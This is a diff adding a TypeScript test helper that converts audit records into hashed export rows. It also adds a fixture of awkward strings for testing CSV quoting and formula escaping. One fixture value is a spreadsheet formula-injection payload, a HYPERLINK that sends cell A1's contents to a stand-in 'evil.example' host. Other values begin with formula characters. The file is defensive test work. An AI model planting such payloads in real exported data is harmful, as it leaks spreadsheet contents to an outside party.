@@ -1,0 +1,74 @@
+// Test helper: export rows built the way the store builds them, from records.
+import { createHash } from 'node:crypto';
+import { canonicalize } from '../../shared/canonical';
+import { deriveColumns } from '../../shared/derive';
+import type { AuditRecord, JsonValue } from '../../shared/event';
+import type { ExportRow } from '../../electron/export/rows';
+
+export function toExportRow(record: AuditRecord, seq: number): ExportRow {
+  const canon = Buffer.from(canonicalize(record as unknown as JsonValue), 'utf8');
+  const leaf = createHash('sha256')
+    .update(Buffer.from([0]))
+    .update(canon)
+    .digest();
+  const d = deriveColumns(record);
+  return {
+    seq,
+    canon,
+    leaf,
+    event_id: record.id,
+    ts: d.timestamp,
+    actor_id: d.actorId,
+    actor_type: d.actorType,
+    action: d.action,
+    category: d.category,
+    entity_type: d.entityType,
+    entity_id: d.entityId,
+    entity_name: d.entityName,
+    status: d.status,
+    request_id: d.requestId,
+    key_id: d.keyId,
+  };
+}
+
+export function toExportRows(records: Iterable<AuditRecord>): ExportRow[] {
+  const rows: ExportRow[] = [];
+  for (const r of records) rows.push(toExportRow(r, rows.length + 1));
+  return rows;
+}
+
+/** Records whose text trips every quoting and formula rule. */
+export function nastyRecords(): AuditRecord[] {
+  const values = [
+    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
+    '+1+2',
+    '-2+3',
+    '@SUM(A1:A9)',
+    '\tindented',
+    '\rcarriage',
+    "'=already quoted",
+    "''+twice",
+    "'plain apostrophe",
+    "'",
+    'comma, inside',
+    'quote " inside',
+    'line\nbreak',
+    'crlf\r\ninside',
+    'ünïcödé ✓ 🎉',
+    '-',
+  ];
+  return values.map((value, i) => ({
+    id: `evt-${String(i).padStart(32, '0')}`,
+    timestamp: `2026-03-02T10:00:${String(i).padStart(2, '0')}.000001Z`,
+    actor: { id: i % 2 ? value : 'alice@example.com', type: 'user' },
+    action: 'SIGNING_REQUESTED',
+    entity: i % 3 ? { type: 'SigningRequest', id: `req-${i}`, name: value } : { type: 'SigningRequest', id: value },
+    status: 'SUCCESS',
+    details: {
+      requestId: value,
+      note: value,
+      nested: { a: 1, entity: { x: '}', y: ['{', '"', '\\'] } },
+      tricky: ',"details":{',
+    },
+  }));
+}
